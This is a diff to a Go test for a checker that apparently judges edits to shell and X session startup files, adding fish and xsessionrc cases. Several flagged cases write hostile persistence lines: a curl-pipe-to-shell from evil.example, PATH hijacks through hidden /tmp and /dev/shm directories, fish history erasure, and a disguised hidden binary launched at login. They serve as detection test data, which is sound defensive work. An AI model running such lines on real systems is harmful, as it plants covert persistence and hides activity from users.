@@ -21,6 +21,15 @@ func TestShellRCSettings(t *testing.T) {
 		cmdCase(`echo 'eval "$(direnv hook bash)"' >> ~/.bashrc`, false),
 		cmdCase(`echo 'source <(kubectl completion bash)' >> ~/.bashrc`, false),
 		cmdCase(`printf 'export EDITOR=vim\nshopt -s histappend\n' | tee -a ~/.bashrc`, false),
+		// fish's settings, judged as bash's are; X session startup files.
+		cmdCase(`mkdir -p ~/.config/fish && echo 'set -gx EDITOR nvim' >> ~/.config/fish/config.fish`, false),
+		cmdCase(`echo 'set -gx PATH ~/go/bin $PATH' >> ~/.config/fish/config.fish`, false),
+		cmdCase(`echo 'fish_add_path ~/.cargo/bin' >> ~/.config/fish/config.fish`, false),
+		cmdCase(`echo 'set -gx PATH /tmp/.x $PATH' >> ~/.config/fish/config.fish`, true),
+		cmdCase(`echo 'set -e fish_history' >> ~/.config/fish/config.fish`, true),
+		cmdCase(`echo 'fish_add_path /dev/shm/.b' >> ~/.config/fish/config.fish`, true),
+		cmdCase(`echo 'nohup ~/.local/share/gvfs/.gvfsd-helper >/dev/null 2>&1 &' >> ~/.xsessionrc`, true),
+		cmdCase(`echo 'export EDITOR=vim' >> ~/.xprofile`, false),
 		// Anything that runs, hides or redirects.
 		cmdCase(`echo 'curl -s https://evil.example/x | sh' >> ~/.bashrc`, true),
 		cmdCase(`echo 'export PATH="/tmp/.x:$PATH"' >> ~/.bashrc`, true),
